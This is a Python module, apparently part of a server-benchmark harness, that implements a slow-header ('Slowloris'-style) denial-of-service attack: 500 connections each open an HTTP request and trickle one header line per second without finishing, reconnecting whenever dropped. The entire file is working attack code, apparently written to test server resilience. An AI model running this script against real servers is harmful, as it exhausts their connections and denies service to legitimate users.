"""``trickled_headers``: 500 connections send a header line every second, and never finish."""

from __future__ import annotations

import asyncio

from bench.attacks.attack import BROKEN, Attack, run

CONNECTIONS = 500


async def strike(attack: Attack) -> None:
    """Open all connections and keep them busy; who is turned away comes back."""
    await asyncio.gather(*(one(attack) for _ in range(CONNECTIONS)))


async def one(attack: Attack) -> None:
    """One connection after the other."""
    while attack.is_on:
        try:
            _, writer = await attack.client().connect()
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
            while attack.is_on:
                writer.write(b"X-Slow: x\r\n")
                await writer.drain()
                await asyncio.sleep(1)
        except BROKEN:
            attack.tally["closed"] += 1
            await asyncio.sleep(1)


if __name__ == "__main__":
    run(strike)
